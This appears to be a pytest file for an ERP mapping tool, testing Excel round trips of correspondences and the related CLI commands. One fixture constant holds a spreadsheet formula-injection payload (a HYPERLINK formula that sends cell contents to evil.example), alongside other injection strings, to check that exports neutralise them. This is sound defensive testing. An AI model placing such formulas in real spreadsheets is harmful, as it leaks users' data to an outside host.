"""Excel round trip of the correspondences, and the ``econn mappings`` commands."""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from test_mappings_helpers import CONNECTOR, fill_gc

from econn import store
from econn.mappings import correspondences as cor
from econn.cli import main
from econn.mappings.excel import HEADERS, MappingFileError, export_xlsx, import_xlsx

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'


@pytest.fixture
def ws(workspace: Path) -> Path:
    fill_gc(workspace)
    cor.set_mapping(workspace, CONNECTOR, "tva", "V2 - 20 %", "V3")
    cor.set_mapping(workspace, CONNECTOR, "unite", "UNI", "UNI")
    cor.record_suggestions(workspace, CONNECTOR, "pays", ["Hollande", "EL", "Mordor"])
    cor.record_suggestions(workspace, CONNECTOR, "article", ["0012-ab", EVIL, "-5", "@SUM(1)"])
    cor.set_mapping(workspace, "SHOP", "reglement", "Shopify Payments", "CB")
    return workspace


def snapshot(ws: Path) -> pd.DataFrame:
    return cor.get(ws).drop(columns=["updated_at", "updated_by"]).astype(str)


def rows_of(sheet) -> dict[str, int]:  # noqa: ANN001
    return {sheet.cell(row=r, column=2).value: r for r in range(2, sheet.max_row + 1)}


def test_export_layout(ws: Path, tmp_path: Path) -> None:
    out = tmp_path / "cor.xlsx"
    counts = export_xlsx(ws, out)
    assert counts["pays"] == 3 and counts["tva"] == 1
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames[:6] == ["TVA", "Unités", "Pays", "Règlements", "Articles", "Tiers"]
    assert wb["_econn"].sheet_state == "hidden" and wb["_econn"]["A1"].value == "econn-correspondances"
    assert wb["_listes"].sheet_state == "hidden"
    pays = wb["Pays"]
    assert [c.value for c in pays[1]] == HEADERS
    # Unmapped first; a suggestion shows in « suggestion », not in « valeur GC ».
    el = rows_of(pays)["EL"]
    assert pays.cell(row=el, column=4).value is None and pays.cell(row=el, column=6).value == "GR"
    assert pays.cell(row=el, column=5).value == "suggere" and 0 < pays.cell(row=el, column=7).value < 1
    tva = wb["TVA"]
    assert tva.cell(row=2, column=4).value == "V3" and tva.cell(row=2, column=5).value == "valide"
    # Dropdowns refer to the hidden list of active GC values.
    formulas = {dv.formula1 for dv in pays.data_validations.dataValidation}
    assert any(f.startswith("'_listes'!$C$2") for f in formulas)
    listed = [c.value for c in wb["_listes"]["A"]][1:]
    assert "V3" in listed and "V9" not in listed  # V9 is inactive


def test_export_neutralises_formulas(ws: Path, tmp_path: Path) -> None:
    out = tmp_path / "cor.xlsx"
    export_xlsx(ws, out)
    z = zipfile.ZipFile(out)
    sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 8 and all("<f>" not in z.read(n).decode() for n in sheets)  # no formula anywhere
    assert any("HYPERLINK" in z.read(n).decode() for n in sheets)
    arts = openpyxl.load_workbook(out)["Articles"]
    found = {arts.cell(row=r, column=2).value: arts.cell(row=r, column=2) for r in range(2, arts.max_row + 1)}
    for text in (EVIL, "-5", "@SUM(1)"):
        cell = found[text]
        assert cell.data_type == "s" and cell.quotePrefix, text
    assert not found["0012-ab"].quotePrefix


def test_round_trip_changes_exactly_the_edited_rows(ws: Path, tmp_path: Path) -> None:
    out = tmp_path / "cor.xlsx"
    export_xlsx(ws, out)
    before = snapshot(ws)
    wb = openpyxl.load_workbook(out)
    pays, tva = wb["Pays"], wb["TVA"]
    pays.cell(row=rows_of(pays)["Hollande"], column=4).value = "NL"  # type a GC value
    tva.cell(row=rows_of(tva)["V2 - 20 %"], column=4).value = "V1"   # change a validated one
    wb.save(out)
    res = import_xlsx(ws, out, user="bob")
    assert res.ok and len(res.changed) == 2
    assert {(c.external_value, c.old_gc, c.new_gc, c.new_state) for c in res.changed} == {
        ("Hollande", "NL", "NL", "valide"), ("V2 - 20 %", "V3", "V1", "valide")}
    after = snapshot(ws)
    diff = before.merge(after, how="outer", indicator=True)
    changed = set(diff.loc[diff["_merge"] == "right_only", "external_value"])
    assert changed == {"Hollande", "V2 - 20 %"}
    assert len(after) == len(before)
    got = cor.get(ws, CONNECTOR, "pays").set_index("external_value")
    assert got.loc["Hollande", "origin"] == "import" and got.loc["Hollande", "updated_by"] == "bob"
    # Importing the same file again changes nothing.
    again = import_xlsx(ws, out)
    assert again.changed == [] and again.ok


def test_state_valide_accepts_the_suggestion_and_refusals(ws: Path, tmp_path: Path) -> None:
    out = tmp_path / "cor.xlsx"
    export_xlsx(ws, out, connector=CONNECTOR)
    wb = openpyxl.load_workbook(out)
    pays, arts = wb["Pays"], wb["Articles"]
    r = rows_of(pays)
    pays.cell(row=r["EL"], column=5).value = "valide"           # accept GR
    pays.cell(row=r["Mordor"], column=4).value = "ZZ"           # not a GC country
    arts.cell(row=rows_of(arts)["-5"], column=5).value = "peut-être"  # unknown state
    arts.cell(row=arts.max_row + 1, column=1).value = "NOPE"    # a row for an unknown connector
    arts.cell(row=arts.max_row, column=2).value = "SKU-X"
    arts.cell(row=arts.max_row, column=4).value = "MIEL"
    wb.save(out)
    res = import_xlsx(ws, out)
    assert [(c.external_value, c.new_gc) for c in res.changed] == [("EL", "GR")]
    refused = {(x.sheet, x.external_value): x for x in res.refused}
    assert set(refused) == {("Pays", "Mordor"), ("Articles", "-5"), ("Articles", "SKU-X")}
    assert "absente" in refused[("Pays", "Mordor")].reason and refused[("Pays", "Mordor")].row == r["Mordor"]
    assert "état inconnu" in refused[("Articles", "-5")].reason
    assert "connecteur inconnu" in refused[("Articles", "SKU-X")].reason
    assert cor.resolve(ws, CONNECTOR, "pays", ["EL", "Mordor"]) == {"EL": "GR", "Mordor": None}


def test_foreign_or_broken_files_change_nothing(ws: Path, tmp_path: Path) -> None:
    before = snapshot(ws)
    foreign = tmp_path / "foreign.xlsx"
    wb = openpyxl.Workbook()
    wb.active.title = "Pays"
    wb.active.append(HEADERS)
    wb.active.append([CONNECTOR, "Hollande", "", "DE", "valide"])
    wb.save(foreign)
    with pytest.raises(MappingFileError) as exc:
        import_xlsx(ws, foreign)
    assert "marqueur" in exc.value.message_fr
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a zip")
    with pytest.raises(MappingFileError):
        import_xlsx(ws, broken)
    assert snapshot(ws).equals(before)


def test_cli_export_import(ws: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "cli.xlsx"
    args = ["--workspace", str(ws), "--xlsx", str(out)]
    assert main(["mappings", "export", *args, "--connector", "SHOP"]) == 0
    assert "Règlements 1" in capsys.readouterr().out
    assert main(["mappings", "import", "--workspace", str(ws), "--xlsx", str(out)]) == 0
    wb = openpyxl.load_workbook(out)
    wb["Règlements"].cell(row=2, column=4).value = "TRT"  # inactive method
    wb.save(out)
    assert main(["mappings", "import", "--workspace", str(ws), "--xlsx", str(out)]) == 1
    assert "sommeil" in capsys.readouterr().out
    foreign = tmp_path / "f.xlsx"
    openpyxl.Workbook().save(foreign)
    assert main(["mappings", "import", "--workspace", str(ws), "--xlsx", str(foreign)]) == 2
    assert "n'est pas un fichier de correspondances" in capsys.readouterr().err


def test_cli_suggest_and_stale(ws: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["mappings", "suggest", "--workspace", str(ws), "--connector", CONNECTOR, "--domain", "unite",
                 "Kilo", "furlong"]) == 0
    out = capsys.readouterr().out
    assert "« Kilo » → KG" in out and "« furlong » : aucune suggestion" in out
    assert main(["mappings", "stale", "--workspace", str(ws)]) == 0
    with store.transaction(ws) as con:
        con.execute("UPDATE units SET actif = false WHERE code = 'UNI'")
    assert main(["mappings", "stale", "--workspace", str(ws)]) == 1
    assert "COR-STALE" in capsys.readouterr().out


def test_export_lists_first_what_needs_filling(demo_workspace: Path, tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    """The pending files' unmapped values (TVA 5,5%, Bouteille, Hollande, ARRO) and the GC articles sent without
    an external code were missing until someone ran « mappings suggest » by hand (issue #19)."""
    out = tmp_path / "a-remplir.xlsx"
    assert main(["mappings", "export", "--xlsx", str(out), "--workspace", str(demo_workspace)]) == 0
    assert ("À renseigner en tête de feuille : 5 valeur(s) sans correspondance des fichiers en attente, 4 "
            "article(s) GC envoyé(s) sans code externe.") in capsys.readouterr().out
    wb = openpyxl.load_workbook(out)
    firsts = {name: [c.value for c in wb[name][2]] for name in ("TVA", "Unités", "Pays", "Articles")}
    assert firsts["TVA"][:6] == ["CSV", "TVA 5,5%", None, None, "non_verifie", "V1"]
    assert firsts["Unités"][:6] == ["CSV", "Bouteille", None, None, "non_verifie", "BTL"]
    assert firsts["Pays"][:6] == ["CSV", "Hollande", None, None, "non_verifie", "NL"]
    assert firsts["Articles"][:6] == ["CSV", "ARRO", None, None, "non_verifie", "ARRO"]
    # The demo names its files after the day it was built: the order written « Hollande » is in the file of D-2.
    with store.connect(demo_workspace, read_only=True) as con:
        built = dt.date.fromisoformat(str(store.get_setting(con, "demo.today")))
    two_days_before = built - dt.timedelta(days=2)
    assert f"bloque 1 document en attente (commandes_{two_days_before:%Y%m%d}.csv)" in firsts["Pays"][7]
    arts = wb["Articles"]
    without = [r[3].value for r in arts.iter_rows(min_row=2) if r[1].value is None and r[3].value]
    assert without == ["ARRO", "PUBCAT", "PUBTAB", "PUBTIR"]
    valid_row = next(i for i, r in enumerate(arts.iter_rows(min_row=2), start=2) if r[4].value == "valide")
    last_to_fill = max(i for i, r in enumerate(arts.iter_rows(min_row=2), start=2) if r[4].value != "valide")
    assert last_to_fill < valid_row                                  # what needs filling comes first


def test_round_trip_of_the_values_to_fill(demo_workspace: Path, tmp_path: Path) -> None:
    out = tmp_path / "a-remplir.xlsx"
    export_xlsx(demo_workspace, out)
    wb = openpyxl.load_workbook(out)
    pays = wb["Pays"]
    pays.cell(row=rows_of(pays)["Hollande"], column=5).value = "valide"       # accept the suggestion NL
    arts = wb["Articles"]
    row = next(r for r in arts.iter_rows(min_row=2) if r[1].value is None and r[3].value == "PUBCAT")
    row[1].value = "CATALOGUE-AH"                                             # the site's code of PUBCAT
    wb.save(out)
    res = import_xlsx(demo_workspace, out)
    assert res.refused == []
    assert {(c.domain, c.external_value, c.new_gc, c.new_state) for c in res.changed} == {
        ("pays", "Hollande", "NL", "valide"), ("article", "CATALOGUE-AH", "PUBCAT", "valide")}
    assert cor.resolve(demo_workspace, "CSV", "pays", ["Hollande"]) == {"Hollande": "NL"}
    export_xlsx(demo_workspace, out)                                          # filled: no longer listed first
    wb = openpyxl.load_workbook(out)
    assert "Hollande" not in [c.value for c in wb["Pays"]["B"] if wb["Pays"].cell(row=c.row, column=5).value
                              == "non_verifie"]
    assert "PUBCAT" not in [r[3].value for r in wb["Articles"].iter_rows(min_row=2) if r[1].value is None]
